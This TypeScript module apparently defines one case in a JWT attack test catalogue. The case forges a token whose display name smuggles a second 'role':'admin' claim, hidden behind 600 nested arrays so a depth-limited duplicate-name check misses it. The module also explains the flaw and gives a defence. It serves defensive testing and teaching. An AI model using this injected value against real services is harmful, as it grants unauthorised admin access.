import { rfc } from '../../jwt/clause.ts';
import { claimsOf, headerOf } from '../../service/tokens/parts.ts';
import type { Attack } from '../attack.ts';

/** Deeper than the reader that looks for repeated names goes, and well within the size that Strict allows. */
const DEPTH = 600;

export const repeatedClaimNested: Attack = {
  id: 'repeated-claim-nested',
  name: 'A claim that stands twice, hidden by nesting',
  group: 'form',
  setting: 'careless-issuer',
  precondition:
    'Two readers walk through the JSON, one that looks for repeated names and one that gives the claims, and the first does not go as deep as the second.',
  needs: ['a-careless-issuer'],
  goal: 'u-9 is let in as admin, past a check for names that stand twice.',
  forge: async ({ honest, knows }) => {
    const header = JSON.stringify(headerOf(honest));
    const nested = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;
    const payload = JSON.stringify({ ...claimsOf(honest), name: 'NAME' }).replace(
      'NAME',
      `x","nested":${nested},"role":"admin`,
    );
    const token = await knows.haveSigned?.(header, payload);
    return {
      moves: [
        {
          say: `Choose the display name  x","nested":[…],"role":"admin , with ${String(DEPTH)} arrays one in another for the dots. Have a token issued.`,
          token: token ?? '',
        },
      ],
    };
  },
  explanation: [
    'JSON.parse does not say that a name stood twice, so whoever wants to know reads the text once more, with a reader of their own. Such a reader calls itself for every array in an array, and stops somewhere, so that a hostile text cannot use up its stack.',
    'RFC 8259 allows that limit, and each reader has its own. JSON.parse goes much deeper. Between the two limits lie texts in which the one sees nothing and the other finds role twice and takes the last.',
    'The fault is then in one small step: “I could not read it” was taken for “I found nothing”. The check was there, it was tested with names that stand twice, and it passed over what it could not see.',
  ],
  defence:
    'What a check cannot read it must refuse. Better still, let the reader that finds the repeated name be the one that gives the claims.',
  bcp: [],
  clauses: [rfc(7519, '4'), rfc(8259, '9')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'accept',
      at: 'accepted',
      because:
        'Of two it takes the last, as RFC 7519 allows, and nesting does not trouble JSON.parse.',
    },
    strict: {
      outcome: 'refuse',
      at: 'twice',
      because: 'It cannot walk so deep, and what it cannot walk through may hold a name twice.',
    },
  },
};
